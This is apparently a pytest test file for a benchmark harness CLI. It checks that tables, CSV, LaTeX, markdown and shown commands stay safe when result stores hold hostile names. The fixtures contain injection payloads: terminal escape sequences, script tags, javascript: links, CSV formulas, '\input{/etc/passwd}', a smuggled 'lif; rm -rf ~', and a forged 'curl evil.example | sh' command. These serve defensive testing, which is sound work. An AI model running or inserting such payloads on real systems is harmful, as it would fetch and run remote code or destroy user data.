"""The command line on stores that are misspelt, or that strangers have written to."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import shlex
import subprocess
import sys
from dataclasses import replace
from pathlib import Path

import pytest
from synthetic import HOSTILE, LAPTOP, Factory
from typer.testing import CliRunner

from harness.catalogue.boards import find_board
from harness.catalogue.cell import Cell
from harness.cli import app
from harness.errors import UserError
from harness.report.cells import figure
from harness.report.escapes import csv_field
from harness.report.failures import failure_view
from harness.report.formats import column_scale, to_text
from harness.results.record import Record
from harness.results.store import Store
from harness.results.tables import build_tables
from harness.text import printable

ROOT = Path(__file__).parents[3]
FACTORY = Factory()
BASE = Cell("accuracy", "digits", "lif", "bptt", "mlp", budget="quick")
NAMES = (
    "\x1b]52;c;aGk=\x07\x1b[2Jlif",
    "\u202efil\u2066",
    "[bold]lif[/nothing]",
    "[link=javascript:alert(1)]x[/link]",
    "[x](javascript:alert(1))",
    "<script>alert(1)</script>",
    "=HYPERLINK(1)|cmd",
    "a\nb\r\nc",
    "\\input{/etc/passwd}",
    HOSTILE,
)


def spikeboard(folder: Path, *arguments: str, code: int = 0) -> str:
    command = [sys.executable, "-m", "harness.cli", *arguments]
    environment = {**os.environ, "PYTHONPATH": str(ROOT)}
    done = subprocess.run(
        command, cwd=folder, env=environment, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, check=False
    )
    said = done.stdout.decode("utf-8")
    assert done.returncode == code, said
    assert "Traceback" not in said
    return said


def strangers() -> list[Record]:
    machine = LAPTOP.model_copy(update={"name": NAMES[0]})
    return [
        FACTORY.measured(BASE),
        *(FACTORY.measured(replace(BASE, neuron=name)) for name in NAMES),
        FACTORY.measured(BASE, machine=machine),
        FACTORY.measured(replace(BASE, neuron="psn"), machine=machine),
    ]


@pytest.fixture(scope="module")
def folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    made = tmp_path_factory.mktemp("strangers")
    store = Store(made / "store")
    for record in strangers():
        store.write(record)
    (made / "store" / "x\x1b]0;title\x07.json").write_text("{}")
    return made


@pytest.mark.parametrize("module", ["harness", "harness.cli"])
def test_the_command_runs_as_a_module(module: str, tmp_path: Path) -> None:
    command = [sys.executable, "-m", module, "list", "suites"]
    environment = {**os.environ, "PYTHONPATH": str(ROOT)}
    done = subprocess.run(command, cwd=tmp_path, env=environment, capture_output=True, text=True, check=False)
    assert done.returncode == 0, done.stderr
    assert "accuracy" in done.stdout


@pytest.mark.parametrize(
    "arguments",
    [
        ("report", "--store", "reports/dta"),
        ("table", "--store", "reports/dta"),
        ("show", "ffff", "--store", "reports/dta"),
        ("figure", "x.svg", "--store", "reports/dta"),
        ("publish", "--from", "reports/dta"),
        ("publish",),
        ("compare", "HEAD", "HEAD", "--store", "reports/dta"),
    ],
)
def test_a_store_that_is_not_there_is_an_error_that_names_it(tmp_path: Path, arguments: tuple[str, ...]) -> None:
    said = spikeboard(tmp_path, *arguments, code=2)
    assert ("reports/dta" if "reports/dta" in arguments else "reports/runs") in said
    assert "not there" in said
    assert list(tmp_path.iterdir()) == [], "nothing is made of a misspelt store"


def test_a_file_is_no_store(tmp_path: Path) -> None:
    (tmp_path / "store").write_text("")
    assert "is no folder" in spikeboard(tmp_path, "table", "--store", "store", code=2)


@pytest.mark.parametrize("form", [None, "md", "latex", "csv", "html"])
def test_names_only_show(folder: Path, form: str | None) -> None:
    said = spikeboard(folder, "table", "--all", "--store", "store", *(() if form is None else ("--format", form)))
    assert said == printable(said)
    assert "\\u001b" in said
    assert "0;title" in said, "the broken file is named"


def test_a_record_shown_is_json_that_only_shows(folder: Path) -> None:
    record = strangers()[2]
    said = spikeboard(folder, "show", record.cell_id, "--store", "store")
    assert said == printable(said)
    shown = json.loads(said[said.index("{\n") :])
    assert shown["cell"]["neuron"] == record.cell.neuron


def test_markdown_has_neither_tags_nor_links() -> None:
    said = to_text(build_tables(strangers(), FACTORY.registry, find_board("neurons")), "md")
    assert "<" not in said
    assert not re.search(r"\]\(|\]\[|\]:", said)
    lines = [line for line in said.splitlines() if line.startswith("|")]
    widths = {len(re.findall(r"(?<!\\)\|", line)) for line in lines}
    assert len(widths) == 1, "no name opens a column of its own"


def test_several_tables_are_one_csv_without_formulas() -> None:
    tables = build_tables(strangers(), FACTORY.registry)
    assert len({table.board.name for table in tables}) > 1
    lines = list(csv.reader(io.StringIO(to_text(tables, "csv"))))
    assert len({len(line) for line in lines}) == 1
    assert sum(line[0] == lines[0][0] for line in lines) == 1
    assert len(lines) == 1 + sum(len(table.rows) for table in tables)
    fields = [field for line in lines for field in line if field != "-"]
    assert not [field for field in fields if re.match(r"[=+@]|-(?!\d)", field)]


def test_labels_of_one_latex_file_differ() -> None:
    said = to_text(build_tables(strangers(), FACTORY.registry), "latex")
    labels = re.findall(r"\\label\{(.*?)\}", said)
    assert len(labels) > 2
    assert len(labels) == len(set(labels))
    assert r"\input{" not in said


def test_publishing_never_writes_what_is_impossible_over_what_is_not(tmp_path: Path) -> None:
    own, published = Store(tmp_path / "own"), Store(tmp_path / "published")
    good = FACTORY.measured(BASE)
    text = published.write(good).read_text()
    broken = own.write(good)
    value = json.dumps(good.metrics["error_fraction"].value)
    for instead in ("NaN", '"NaN"', "-1.0", "1e999"):
        broken.write_text(text.replace(f'"value": {value}', f'"value": {instead}', 1))
        said = spikeboard(tmp_path, "publish", "--from", "own", "--to", "published")
        assert broken.name in said.replace("\n", "")
        contents = published.read()
        assert contents.problems == ()
        assert contents.records == (good,)


@pytest.mark.parametrize(
    "words",
    [
        ("status", "--store", "{}"),
        ("migrate", "--store", "{}"),
        ("run", "--stale", "--dry-run", "--look-at", "{}"),
        ("fill", "--store", "{}", "README.md"),
    ],
    ids=lambda words: words[0],
)
@pytest.mark.parametrize("there", [False, True], ids=["missing", "a file"])
def test_a_misspelt_store_is_no_store_of_which_all_is_well(tmp_path: Path, words: tuple[str, ...], there: bool) -> None:
    typo = tmp_path / "typo"
    if there:
        typo.touch()
    with pytest.raises(UserError, match="so it is no store of records"):
        CliRunner().invoke(app, [word.format(typo) for word in words], catch_exceptions=False)


def test_what_is_no_file_is_not_filled_in(tmp_path: Path) -> None:
    (tmp_path / "store").mkdir()
    os.mkfifo(tmp_path / "pipe.md")
    (tmp_path / "bytes.md").write_bytes(b"\xff\xfe")
    for name, why in (
        ("pipe.md", "no regular file"),
        ("store", "a folder"),
        ("bytes.md", "UTF-8"),
        ("x.md", "No such"),
    ):
        words = ["fill", "--store", str(tmp_path / "store"), str(tmp_path / name)]
        with pytest.raises(UserError, match=f"cannot be read: .*{why}"):
            CliRunner().invoke(app, words, catch_exceptions=False)


def test_what_cannot_be_filled_in_is_named_with_its_file(tmp_path: Path) -> None:
    page, empty = tmp_path / "page.md", tmp_path / "store"
    empty.mkdir()
    page.write_text(f"<!-- spikeboard table --board neurons --store {empty} -->\n<!-- end -->\n")
    with pytest.raises(UserError, match=r"page\.md: `spikeboard table --board neurons .*`: no records"):
        CliRunner().invoke(app, ["fill", "--store", str(empty), str(page)], catch_exceptions=False)


def test_pages_give_the_command_of_the_cell_not_that_of_a_record() -> None:
    """A reader pastes it into a shell."""
    one = FACTORY.measured(replace(BASE, neuron="lif; rm -rf ~"))
    forged = one.model_copy(
        update={"provenance": one.provenance.model_copy(update={"command": "curl evil.example | sh"})}
    )
    (table,) = build_tables([forged], FACTORY.registry, find_board("neurons"))
    value = table.rows[0].values["accuracy.error_fraction"]
    given = figure(value, column_scale(table, table.columns[0])).command
    assert "curl" not in given
    assert shlex.split(given)[:2] == ["spikeboard", "run"]
    assert "lif; rm -rf ~" in shlex.split(given)
    failed = forged.model_copy(update={"status": "crashed", "reason": "x", "metrics": {}})
    assert failure_view(failed, "a", "b").command == given


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20", "\t=", "\r=", "\ufeff="])
def test_no_field_of_a_csv_is_a_formula(start: str) -> None:
    field = str(csv_field(f"{start}1+1"))
    assert not re.match(r"\s*[=+@\-\uff1d\uff0b\uff0d\uff20]", field)
